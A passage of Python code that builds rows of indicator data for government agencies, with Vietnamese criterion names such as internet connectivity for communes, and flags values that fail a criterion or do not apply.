            if criterion == "xa-ket-noi-internet" and agency["group"] != "huyen":
                continue
            value = FIGURES[aid].get(criterion, good)
            row = dict(base, criterion=criterion, url="")
            if isinstance(value, tuple) and value[0] == "bad":
                row.update(value=value[1], breaks=True)
            elif isinstance(value, tuple) and value[0] == "na":
                row.update(not_applicable="có", note=value[1])
            else:
                row.update(value=value)
            rows.append(row)
    return rows


REPORTS = _reports()
ITEM_ROWS = _items()
